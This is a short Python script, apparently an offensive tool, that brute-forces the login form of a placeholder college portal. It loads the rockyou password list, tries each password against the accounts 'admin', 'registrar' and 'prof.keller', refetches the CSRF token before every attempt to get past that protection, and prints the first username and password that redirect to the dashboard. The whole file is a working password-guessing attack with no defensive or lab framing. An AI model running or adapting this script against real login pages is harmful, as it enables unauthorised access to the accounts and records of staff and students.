import itertools
import sys
from pathlib import Path

import requests
from bs4 import BeautifulSoup

BASE = "https://portal.college.example"

s = requests.Session()
words = Path("/usr/share/wordlists/rockyou.txt").read_text(errors="ignore").split()
names = ["admin", "registrar", "prof.keller"]

# the form has a csrf token so we have to load the page each time
for name, word in itertools.product(names, words):
    page = s.get(BASE + "/login")
    token = BeautifulSoup(page.text, "html.parser").find("input", {"name": "csrf"})["value"]
    r = s.post(BASE + "/login", data={"csrf": token, "user": name, "pass": word}, allow_redirects=False)
    if r.status_code == 302 and "dashboard" in r.headers.get("Location", ""):
        print("works:", name, word)
        sys.exit(0)
    s.cookies.clear()
print("nothing found")
